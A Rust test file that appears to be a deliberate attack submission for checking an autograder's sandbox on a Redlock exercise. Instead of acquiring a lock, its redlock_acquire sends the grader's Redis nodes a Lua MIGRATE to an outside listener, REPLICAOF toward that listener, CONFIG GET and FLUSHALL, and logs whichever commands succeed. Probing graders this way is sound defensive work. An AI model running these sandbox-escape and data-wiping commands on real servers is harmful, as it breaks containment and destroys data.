//! Attack: the grader's own Redis servers as a way out of the sandbox.
//!
//! Redlock's five nodes (and the primary and replica of the failover stories,
//! see `acquire.rs`) are servers the grader starts for this student alone, so
//! no other student's keys live there. But they run outside the sandbox, as
//! the instructor, with the network the sandbox takes away. Through its node
//! connections, the first `redlock_acquire` asks each node for what acts on
//! the server and beyond it:
//!
//! - a Lua script that calls `MIGRATE` to `127.0.0.1:@LISTEN@` (the driver's
//!   listener, outside the sandbox): the node connects there and sends the
//!   key, a connection out from code that has no network;
//! - `REPLICAOF 127.0.0.1 @LISTEN@`, the same from the server itself;
//! - `CONFIG GET maxmemory`, `FLUSHALL`: the server's settings and all of
//!   its data.
//!
//! A sound grader holds a learner's connection to every server it starts to
//! the commands a lock needs, scripts included: no connection reaches the
//! listener, and every one of these is refused.

#[path = "atk_kit.rs"]
mod kit;

use std::sync::atomic::AtomicBool;
use std::time::Duration;

use redis::{ConnectionLike, RedisResult, Value};

static DONE: AtomicBool = AtomicBool::new(false);

/// The script that makes a server connect out: `MIGRATE` is allowed in Lua.
pub const MIGRATE: &str =
    "return redis.pcall('MIGRATE', ARGV[1], ARGV[2], KEYS[1], 0, 300, 'COPY')";

fn shown(reply: &RedisResult<Value>) -> String {
    format!("{reply:?}").chars().take(120).collect()
}

/// Whether a reply came from the server doing what it was asked (for
/// `MIGRATE`, trying to: an `IOERR` says it connected out), not from the
/// grader's filter or the server's access control refusing it.
fn done(reply: &RedisResult<Value>) -> bool {
    let text = shown(reply);
    !["refused by the grader", "NOPERM", "NoPerm", "no permissions", "can't run this command"]
        .iter()
        .any(|denied| text.contains(denied))
}

pub fn escape<C: ConnectionLike>(con: &mut C, key: &str, what: &str) {
    let _: RedisResult<Value> = redis::cmd("SET").arg(key).arg("carried-out").query(con);
    let migrated: RedisResult<Value> = redis::cmd("EVAL")
        .arg(MIGRATE)
        .arg(1)
        .arg(key)
        .arg("127.0.0.1")
        .arg("@LISTEN@")
        .query(con);
    let config: RedisResult<Value> = redis::cmd("CONFIG").arg("GET").arg("maxmemory").query(con);
    let flushed: RedisResult<Value> = redis::cmd("FLUSHALL").query(con);
    for (name, reply) in [("MIGRATE in a script", &migrated), ("CONFIG GET", &config), ("FLUSHALL", &flushed)] {
        if done(reply) {
            kit::evidence("proxy-server-escape", &format!("{what}: {name} answered {}", shown(reply)));
        }
    }
}

pub fn redlock_acquire<C: ConnectionLike>(
    nodes: &mut [C],
    _clock: &dyn Fn() -> Duration,
    key: &str,
    _token: &str,
    _ttl: Duration,
) -> Option<Duration> {
    if kit::first(&DONE) {
        for (i, node) in nodes.iter_mut().enumerate() {
            escape(node, key, &format!("node {i}"));
        }
        if let Some(node) = nodes.first_mut() {
            let replica: RedisResult<Value> =
                redis::cmd("REPLICAOF").arg("127.0.0.1").arg("@LISTEN@").query(node);
            if done(&replica) {
                kit::evidence("proxy-server-escape", &format!("node 0: REPLICAOF answered {}", shown(&replica)));
            }
        }
    }
    todo!("ask every node, count a majority, subtract the time spent and the drift")
}

pub fn redlock_release<C: ConnectionLike>(_nodes: &mut [C], _key: &str, _token: &str) -> usize {
    todo!("compare the token and delete on every node, in one Lua script each")
}
